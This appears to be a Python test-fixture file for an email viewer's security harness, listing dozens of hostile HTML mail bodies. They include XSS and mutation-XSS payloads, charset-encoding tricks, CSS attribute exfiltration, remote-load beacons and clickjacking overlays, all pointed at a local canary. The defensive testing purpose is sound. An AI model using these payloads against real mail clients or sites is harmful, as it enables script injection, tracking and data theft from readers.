# ruff: noqa: E501  an attack is easier to judge on one line
"""Every way known to us in which a mail tries to run, load or reach something when it is looked at.

In an input `@C` stands for the canary of this input (http://127.0.0.1:PORT), `@T` for the same over TLS, `@H` for its
`127.0.0.1:PORT`, `@O` for our own server, and `@J` for a script
that tells the console which input ran.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass

FIRED = "FIRED"
#: Within data: URIs, where the input is not known.
MARK = f"console.log('{FIRED} data')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'
PAGE = f"<script>{MARK}</script>"


@dataclass(frozen=True)
class Input:
    """`alive`: what it does in a naked frame, by which the harness proves that it would have noticed."""

    name: str
    html: str
    alive: str = ""
    click: bool = False
    charset: str = "utf-8"
    encode: Callable[[str], bytes] | None = None

    @property
    def key(self) -> str:
        """Its number, such as `48b`."""
        return self.name.split()[0]

    def filled(self, port: int, own: str) -> str:
        """The HTML with the addresses of this run: the canary's port and the base of our own server."""
        return (
            self.html.replace("@J", f"console.log('{FIRED} {self.key}')")
            .replace("@C", f"http://127.0.0.1:{port}")
            .replace("@T", f"https://127.0.0.1:{port}")
            .replace("@H", f"127.0.0.1:{port}")
            .replace("@O", own)
        )

    def mail(self, port: int, own: str) -> bytes:
        """A message with that body."""
        html = self.filled(port, own)
        head = (
            f"From: a@hostile.test\r\nTo: b@hostile.test\r\nSubject: {self.name}\r\nMIME-Version: 1.0\r\n"
            f'Content-Type: text/html; charset="{self.charset}"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n'
        )
        return head.encode() + (self.encode(html) if self.encode else html.encode())


def _data(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


SCRIPTS = [
    Input("01 script", "<script>@J</script>", "script"),
    Input("02 img onerror", '<img src=x: onerror="@J">', "script"),
    Input("03 svg onload", '<svg onload="@J"></svg><svg/onload=@J>', "script"),
    Input("04 body onload", '<body onload="@J">', "script"),
    Input("05 iframe javascript", '<iframe src="javascript:@J"></iframe>', "script"),
    Input("06 iframe srcdoc", '<iframe srcdoc="<script>@J</script>"></iframe>', "script"),
    Input("07 object data html", f'<object data="{_data("text/html", PAGE)}"></object>'),
    Input("08 embed data svg", f'<embed src="{_data("image/svg+xml", SVG)}">'),
    Input("09 details ontoggle", '<details open ontoggle="@J">x</details>', "script"),
    Input("10 autofocus onfocus", '<input autofocus onfocus="@J">'),
    Input("11 svg animate onbegin", '<svg><animate onbegin="@J" attributeName=x dur=1s></svg>', "script"),
    Input(
        "12 mxss math mglyph style",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=@J&gt;">'
        '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="@J">',
        "script",
    ),
    Input("13 mxss noscript title", '<noscript><p title="</noscript><img src=x: onerror=@J>"></noscript>'),
    Input("14 mxss svg style", '<svg></p><style><a id="</style><img src=x: onerror=@J>"></svg>'),
    Input(
        "15 declarative shadow root",
        '<div><template shadowrootmode=open><img src=x: onerror="@J"></template></div>',
        "script",
    ),
    Input(
        "16 css animation event",
        '<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="@J">x</p>',
        "script",
    ),
    Input("17 meta refresh to data", f'<meta http-equiv=refresh content="0;url={_data("text/html", PAGE)}">'),
    Input(
        "18 iso-2022-jp escapes",
        '<img alt="\x1b$B"><b title="\x1b(B x: onerror=@J ">\x1b(J\\"<img src=x: onerror=@J>',
        charset="iso-2022-jp",
        encode=lambda text: text.encode("latin-1", "replace"),
    ),
    Input(
        "19 utf-7",
        "+ADw-script+AD4-@J+ADw-/script+AD4-",
        charset="utf-7",
        encode=lambda text: text.encode("ascii", "replace"),
    ),
    Input("19b comment ends", '<!--><script>@J</script>--><!--x--!><img src=x: onerror="@J">', "script"),
    Input(
        "19c textarea title xmp",
        '<textarea><img title="</textarea><img src=x: onerror=@J>"><title><b id="</title><img src=x: onerror=@J>"><xmp><p title="</xmp><img src=x: onerror=@J>">',
    ),
    Input("19d unclosed svg", '<svg><style><img src=x: onerror="@J"><p>text', ""),
    Input(
        "19e select mutation", '<select><template><style></select><img src=x: onerror="@J"></style></template></select>'
    ),
    Input(
        "19f annotation-xml",
        '<math><annotation-xml encoding=text/html><style></annotation-xml></math><img src=x: onerror="@J"></style>',
    ),
    Input(
        "19g noembed noframes iframe",
        '<noembed><p title="</noembed><img src=x: onerror=@J>"><noframes><p title="</noframes><img src=x: onerror=@J>">',
    ),
    Input("19h nul in tag", '<scr\0ipt>@J</scr\0ipt><img/src=x:/onerror\0="@J"><img \0onerror="@J" src=x:>'),
    Input(
        "19i style breaks out",
        '<style>a{content:"\\3c/style>"}</style ><style>x</style/x><img src=x: onerror="@J">',
        "script",
    ),
    Input("19j style attribute quotes", "<p style='content:\"&quot;&gt;&lt;img src=x: onerror=@J&gt;'>x</p>"),
    Input(
        "19k expression behavior binding",
        '<p style="width:expression(@J);behavior:url(@C/htc);-moz-binding:url(@C/xbl)">x',
    ),
]

NETWORK = [
    Input("20 meta refresh", '<meta http-equiv=refresh content="0;url=@C/">', "connect"),
    Input("21 base", '<base href="@C/"><img src=a.png>', "connect"),
    Input("22 link stylesheet", '<link rel=stylesheet href="@C/">', "connect"),
    Input(
        "23 import", '<style>@import "@C/1";@import url(@C/2);@\\69mport \'@C/3\';@import/**/"@C/4"</style>', "connect"
    ),
    Input("24 background url inline", "<p style=\"background:url(@C/);background:u\\72 l('@C/2')\">x</p>", "connect"),
    Input(
        "25 font-face", "<style>@font-face{font-family:f;src:url(@C/f.woff)}p{font-family:f}</style><p>x</p>", "connect"
    ),
    Input("26 content url", "<style>p:before{content:url(@C/)}</style><p>x</p>", "connect"),
    Input(
        "27 var image-set",
        "<style>p{--u:'@C/1';background-image:image-set(var(--u) 1x)}div{background:-webkit-image-set('@C/2' 1x)}"
        "b{--v:url(@C/3);display:block;background:var(--v)}i{cursor:url(@C/4),auto;list-style:url(@C/5)}</style>"
        "<p>x</p><div>x</div><b>x</b><i>x</i>",
        "connect",
    ),
    Input(
        "28 attribute exfiltration",
        "<style>input[value^=s]{background:url(@C/s)}</style><input value=secret>",
        "connect",
    ),
    Input("29 img src", '<img src="@C/"><img src="//@H/"><img src="\thttp:\\\\@H/"><image src="@C/">', "connect"),
    Input("29b img src tls", '<img src="@T/">', "connect"),
    Input("30 srcset picture", '<img srcset="@C/ 1x"><picture><source srcset="@C/2"><img></picture>', "connect"),
    Input("31 video", '<video poster="@C/p" src="@C/v" autoplay></video>', "connect"),
    Input(
        "32 audio track",
        '<audio src="@C/a" autoplay></audio><video><source src="@C/s"><track default src="@C/t"></video>',
        "connect",
    ),
    Input("33 input image", '<input type=image src="@C/">', "connect"),
    Input(
        "34 background attributes",
        '<body background="@C/b"><table background="@C/t"><tr><td background="@C/d">x',
        "connect",
    ),
    Input("35 svg image", '<svg><image href="@C/1"/><image xlink:href="@C/2"/></svg>', "connect"),
    Input(
        "36 svg feImage",
        '<svg><filter id=f><feImage href="@C/"/></filter><rect width=9 height=9 filter=url(#f)></svg>',
        "connect",
    ),
    Input("37 svg use", '<svg><use href="@C/x.svg#a"/></svg>'),
    Input(
        "38 svg fill mask",
        '<svg><rect width=9 height=9 fill="url(@C/x.svg#a)" mask="url(@C/x.svg#m)" style="filter:url(@C/x.svg#f)"/></svg>',
    ),
    Input(
        "39 svg animate mask",
        '<svg><rect width=9 height=9><animate attributeName=mask to="url(@C/x.svg#m)" begin=0s fill=freeze></rect></svg>',
    ),
    Input("40 svg style import", '<svg><style>@import "@C/"; rect{fill:url(@C/2)}</style></svg>', "connect"),
    Input("41 iframe", '<iframe src="@C/"></iframe>', "connect"),
    Input("42 object", '<object data="@C/"></object>', "connect"),
    Input("43 embed", '<embed src="@C/">', "connect"),
    Input(
        "44 preload",
        '<link rel=preload as=image href="@C/1"><link rel=prefetch href="@C/2"><link rel=modulepreload href="@C/3">',
        "connect",
    ),
    Input(
        "45 preconnect",
        '<link rel=preconnect href="@C"><link rel=dns-prefetch href="@C"><link rel=preconnect href="@T">',
        "connect",
    ),
    Input(
        "46 icon manifest",
        '<link rel=icon href="@C/i"><link rel=manifest href="@C/m"><link rel=\'apple-touch-icon\' href="@C/a">',
    ),
    Input(
        "47 speculation rules",
        '<script type=speculationrules>{"prefetch":[{"urls":["@C/"]}],"prerender":[{"urls":["@C/2"]}]}</script>',
    ),
    Input("48 frameset", '<frameset><frame src="@C/"></frameset>', "connect"),
    Input(
        "48b css confusion",
        "<style>/*\"*/a{background:url(@C/1)}/*'*/ b{x:'\\\n'}a{background:url( \"@C/2\" )}u\\rl{} @media screen{a{background:\\75\\72\\6c(@C/3)}}</style><a>x</a><b>x</b>",
        "connect",
    ),
    Input(
        "48c style in attributes",
        "<p style='background:URL(\"@C/1\")'>x</p><p style='background:url(/**/@C/2)'>x</p><p style='\"}*{background:url(@C/3)'>x</p>",
        "connect",
    ),
    Input(
        "48d link header fields",
        '<meta http-equiv=link content="<@C/>;rel=preload;as=image"><meta http-equiv=content-security-policy-report-only content="report-uri @C/">',
    ),
    Input(
        "48e portal fencedframe",
        '<portal src="@C/"></portal><fencedframe src="@C/"></fencedframe><webview src="@C/"></webview>',
    ),
    Input(
        "48f css src image cross-fade",
        "<style>p{background:cross-fade(url(@C/1),url(@C/2),50%);mask:url(@C/3);border-image:url(@C/4);filter:url(@C/5#f);clip-path:url(@C/6#c);shape-outside:url(@C/7);offset-path:url(@C/8#o)}</style><p>x</p>",
        "connect",
    ),
    Input(
        "48g legacy attributes",
        '<img lowsrc="@C/1" dynsrc="@C/2" longdesc="@C/3"><bgsound src="@C/4"><layer src="@C/5"></layer><table><tr background="@C/6"><td>x</table><ilayer background="@C/7"><applet code=x codebase="@C/8"></applet>',
    ),
    Input(
        "48h at-rules",
        "<style>@namespace q url(@C/1);@charset \"x\";@property --p{syntax:'<url>';inherits:false;initial-value:url(@C/2)}@counter-style c{system:cyclic;symbols:url(@C/3)}@page{background:url(@C/4)}@layer a{p{background:url(@C/5)}}</style><p>x</p>",
        "connect",
    ),
]

OWN = [
    Input(
        "49 img of the api",
        '<img src="@O/api/messages?hit=49"><img src="/api/messages?hit=49"><img src="../api/messages?hit=49">',
        "own",
    ),
    Input(
        "50 iframe of the api", '<iframe src="@O/api/messages?hit=50"></iframe><iframe src="/?hit=50"></iframe>', "own"
    ),
    Input(
        "51 stylesheet of the api",
        '<link rel=stylesheet href="@O/api/messages?hit=51"><style>@import "/api/messages?hit=51"; p{background:url(/api/messages?hit=51)}</style><p>x',
        "own",
    ),
    Input("51b script of the api", '<script src="@O/api/messages?hit=51b"></script>', "own"),
]

USER_INTERFACE = [
    Input(
        "52 form that submits itself",
        '<form id=f action="@C/"><input name=a autofocus onfocus="document.getElementById(\'f\').submit()"></form>',
    ),
    Input(
        "53 fixed overlay",
        '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red"><a href="@C/" target=_top>x</a></div>',
    ),
    Input("54 plaintext", '<plaintext><script>@J</script><img src="@C/">'),
    Input("55 twenty thousand nested div", "<div>" * 20_000 + "x"),
]

_COVER = "style='position:fixed;display:block;left:0;top:0;width:2000px;height:2000px'"
CLICKS = [
    Input("56 a target top", f'<a {_COVER} href="@C/" target=_top>x</a>', click=True),
    Input("56b a target blank", f'<a {_COVER} href="@C/" target=_blank>x</a>', click=True),
    Input("57 a ping", f'<a {_COVER} href="#x" ping="@C/">x</a>', click=True),
    Input("58 a javascript", f'<a {_COVER} href=" j&#9;avascript:@J">x</a>', click=True),
    Input("59 a data html", f'<a {_COVER} href="{_data("text/html", PAGE)}">x</a>', click=True),
    Input("60 form to remote", f'<form action="@C/" method=post><button {_COVER}>x</button></form>', click=True),
    Input(
        "60b form to the api",
        f'<form action="@O/api/messages" method=post enctype=text/plain><input name=a><button {_COVER} formaction="@O/api/messages?hit=60">x</button></form>',
        click=True,
    ),
    Input("60c form to nowhere", f"<form><input name=hit value=60><button {_COVER}>x</button></form>", click=True),
    Input("61 a download", f'<a {_COVER} href="@C/" download=x.html>x</a>', click=True),
    Input("62 custom scheme", f'<a {_COVER} href="x-evil:run">x</a>', click=True),
    Input(
        "63 area javascript",
        f'<img usemap=#m {_COVER} src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><map name=m><area coords=0,0,3000,3000 href="javascript:@J"><area shape=default href="vbscript:@J"></map>',
        click=True,
    ),
    Input(
        "63b popover and command",
        f'<button {_COVER} popovertarget=p onclick="@J" command=show-modal commandfor=p>x</button><div id=p popover><img src="@C/"></div>',
        click=True,
    ),
    Input("63c link to ourselves", f'<a {_COVER} href="@O/api/messages?hit=63c">x</a>', click=True),
]

BODIES = [*SCRIPTS, *NETWORK, *OWN, *USER_INTERFACE, *CLICKS]
